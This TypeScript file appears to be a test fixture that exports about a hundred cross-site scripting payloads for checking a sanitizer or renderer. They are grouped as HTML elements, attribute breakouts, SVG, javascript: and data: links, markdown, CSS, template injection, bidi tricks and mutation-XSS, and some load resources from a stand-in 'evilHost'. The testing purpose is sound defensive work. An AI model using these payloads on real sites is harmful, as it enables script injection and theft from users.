import { evilHost } from './hostile-texts.ts'

/*
 * Texts that would run a script or send a request if a page inserted them as markup or followed them as an address.
 * Each is short enough for a name of 100 characters, and calls `ran`.
 */

const elements = [
  '<script>ran(0)</script>',
  '<ScRiPt/x>ran(0)</sCrIpT >',
  '<script src=data:text/javascript,ran(0)></script>',
  '<img src=x onerror=ran(0)>',
  '<img/src/onerror=ran(0)//',
  '<image href=x onerror=ran(0)>',
  '<body onload=ran(0)>',
  '<video><source onerror=ran(0)></video>',
  '<audio src=x onerror=ran(0)>',
  '<input autofocus onfocus=ran(0)>',
  '<details open ontoggle=ran(0)>x</details>',
  '<marquee onstart=ran(0)>x</marquee>',
  '<object data=javascript:ran(0)>',
  '<embed src=javascript:ran(0)>',
  '<iframe src=javascript:parent.ran(0)>',
  '<iframe srcdoc="&lt;script&gt;parent.ran(0)&lt;/script&gt;">',
  '<form action=javascript:ran(0)><button>x</button></form>',
  '<button formaction=javascript:ran(0)>x</button>',
  '<base href=javascript:ran(0)//><a href=#>x</a>',
  `<meta http-equiv=refresh content="0;url=https://${evilHost}/meta">`,
  `<link rel=stylesheet href=https://${evilHost}/link>`,
  '<x onclick=ran(0) tabindex=1 id=y style=position:fixed;inset:0>',
]
const breakouts = [
  '"><img src=x onerror=ran(0)>',
  "'><img src=x onerror=ran(0)>",
  '` onmouseover=ran(0) x=`',
  '" autofocus onfocus=ran(0) x="',
  "' style=animation:a onanimationstart=ran(0) '",
  '</title><script>ran(0)</script>',
  '</textarea><img src=x onerror=ran(0)>',
  '</style><script>ran(0)</script>',
  '--><script>ran(0)</script><!--',
  ']]><script>ran(0)</script>',
  '"};ran(0);//',
  "');ran(0);//",
  '\\u003cimg src=x onerror=ran(0)\\u003e',
  '&lt;img src=x onerror=ran(0)&gt;',
  '%3Cimg%20src=x%20onerror=ran(0)%3E',
  '＜img src=x onerror=ran(0)＞',
]
const drawings = [
  '<svg onload=ran(0)>',
  '<svg><script>ran(0)</script></svg>',
  '<svg><script href=data:,ran(0) /></svg>',
  '<svg><a href=javascript:ran(0)><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=ran(0) attributeName=x dur=1s>',
  '<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>',
  '<svg><foreignObject><img src=x onerror=ran(0)></foreignObject></svg>',
  '<math href=javascript:ran(0)>x</math>',
]
const addresses = [
  '[a](javascript:ran(0))',
  '[a](JaVaScRiPt:ran(0))',
  '[a](java\tscript:ran(0))',
  '[a](java&#10;script:ran(0))',
  '[a](&#106;avascript:ran(0))',
  '[a](&#x6A;avascript&colon;ran(0))',
  '[a](javascript%3Aran(0))',
  '[a](\u0001javascript:ran(0))',
  '[a](\u00a0javascript:ran(0))',
  '[a](//javascript:ran(0))',
  '[a](https:javascript:ran(0))',
  '[a](vbscript:ran(0))',
  '[a](data:text/html,<script>ran(0)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=)',
  '[a](blob:https://x/ran(0))',
  '<javascript:ran(0)>',
  'javascript:ran(0)',
  'data:text/html,<script>ran(0)</script>',
  `https://${evilHost}@x/"onmouseover="ran(0)`,
]
const markdown = [
  '![a](javascript:ran(0))',
  '![a](x"onerror="ran(0))',
  `![a](https://${evilHost}/image)`,
  '[a]: javascript:ran(0)\n[a]',
  '[a](<javascript:ran(0)>)',
  '[a](x "\'onmouseover=ran(0) ")',
  '`<img src=x onerror=ran(0)>`',
  '```"><img src=x onerror=ran(0)>\n```',
  '**<img src=x onerror=ran(0)>**',
  '| <img src=x onerror=ran(0)> |\n| --- |',
  '# <img src=x onerror=ran(0)>',
  '[<img src=x onerror=ran(0)>](https://x)',
  '1. [1](javascript:ran(0)) [1]',
]
const styles = [
  `<style>@import "https://${evilHost}/style";</style>`,
  `<p style="background:url(https://${evilHost}/background)">x`,
  '<style>@keyframes a{}</style><b style=animation:a onanimationstart=ran(0)>',
  `;background:url(https://${evilHost}/value)`,
  `}*{background:url(https://${evilHost}/rule)}`,
]
const templates = [
  '{{constructor.constructor("ran(0)")()}}',
  '${ran(0)}',
  '<%= ran(0) %>',
  '#{ran(0)}',
  '{contact.name, select, other {<img src=x onerror=ran(0)>}}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=ran(0)>"}}',
]
const directions = [
  '\u202e<b onclick=ran(0)>x',
  '\u2066>(0)nar=rorreno x=crs gmi<\u2069',
  'a\u200b<im\u00adg src=x onerror=ran(0)>',
  '\ufeff\u202dgpj.\u202e<script>ran(0)</script>',
]
/** Harmless when they are parsed once, but not when the result is serialized and parsed again. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=ran(0)>">',
  '<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(0)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=ran(0)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(0)>',
  '<template><s><template><s><img src=x onerror=ran(0)>x</s></template>',
  '<xmp><p title="</xmp><img src=x onerror=ran(0)>">',
  '<select><iframe></select><img src=x onerror=ran(0)>',
]

/** Each with its own number, so that a failure names it. */
export const payloads = [
  ...elements,
  ...breakouts,
  ...drawings,
  ...addresses,
  ...markdown,
  ...styles,
  ...templates,
  ...directions,
  ...mutations,
].map((payload, index) => payload.replaceAll('ran(0)', `ran(${100 + index})`))

/** Joined to texts of at most `chars_max`. */
export function payloadTexts(chars_max: number): string[] {
  const texts: string[] = []
  for (const payload of payloads) {
    const last = texts.at(-1)
    if (last === undefined || last.length + payload.length + 2 > chars_max) texts.push(payload)
    else texts[texts.length - 1] = `${last}\n\n${payload}`
  }
  return texts
}
